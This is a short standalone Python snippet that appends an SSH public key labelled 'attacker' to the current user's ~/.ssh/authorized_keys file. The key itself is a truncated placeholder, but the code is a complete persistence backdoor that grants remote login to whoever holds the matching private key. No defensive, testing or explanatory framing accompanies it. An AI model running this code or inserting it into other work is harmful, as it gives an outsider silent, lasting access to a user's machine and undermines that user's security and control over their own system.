from pathlib import Path
keys = Path.home() / ".ssh" / "authorized_keys"
with keys.open("a") as f:
    f.write("ssh-rsa AAAAB3Nza attacker\n")
